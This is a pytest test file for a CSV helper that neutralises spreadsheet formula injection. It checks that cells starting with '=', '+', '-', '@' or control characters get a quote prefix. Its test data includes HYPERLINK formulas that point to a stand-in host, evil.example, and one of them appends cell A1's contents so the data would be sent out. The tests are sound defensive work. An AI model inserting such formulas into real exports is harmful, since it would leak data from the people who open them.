"""Formula injection: a cell a spreadsheet would run is written as plain text."""

import csv
import io

import pytest

from kit.csvsafe import safe_cell, write_csv


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?"&A1,"Kirjasto")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Helmet", "Kirjasto = paras", "", 12, -3.5, None])
def test_other_cells_are_unchanged(cell: object) -> None:
    assert safe_cell(cell) == cell


def test_a_library_named_hyperlink_is_plain_text_in_the_csv() -> None:
    name = '=HYPERLINK("http://evil.example","Avaa")'
    text = write_csv([["isil", "name", "share"], ["FI-X", name, -12.5]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == ["FI-X", "'" + name, "-12.5"]
    assert not any(cell.startswith("=") for row in rows for cell in row)
